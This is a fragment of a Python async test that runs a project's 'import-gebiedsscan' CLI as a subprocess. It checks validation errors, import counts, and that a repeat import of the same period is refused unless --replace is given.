    env = {k: v for k, v in os.environ.items() if not k.startswith("BURGERWACHT_")}
    env["BURGERWACHT_DATABASE_URL"] = db_url
    code = "from burgerwacht.cli import main; main()"

    async def run(path, *extra):
        proc = await asyncio.create_subprocess_exec(
            sys.executable,
            "-c",
            code,
            "import-gebiedsscan",
            str(path),
            *extra,
            env=env,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        out, err = await proc.communicate()
        return proc.returncode, out.decode(), err.decode()

    rc, out, err = await run(bad)
    assert rc == 1 and "line 2: theme" in err and "nothing imported" in err
    rc, out, err = await run(good)
    assert rc == 0, err
    assert "1 rows (1 new, 0 updated, 0 stored rows replaced) for GM9999" in out
    assert await db.fetchval("SELECT registered_count FROM gebiedsscan") == 17
    # the same period again: refused unless --replace
    good.write_text(good.read_text(encoding="utf-8").replace(",17", ",21"), encoding="utf-8")
    rc, out, err = await run(good)
    assert rc == 1 and "line 2: period_start" in err and "replace" in err
    rc, out, err = await run(good, "--replace")
    assert rc == 0 and "1 rows (0 new, 1 updated, 1 stored rows replaced)" in out, err
    assert await db.fetch("SELECT registered_count FROM gebiedsscan") == [(21,)]
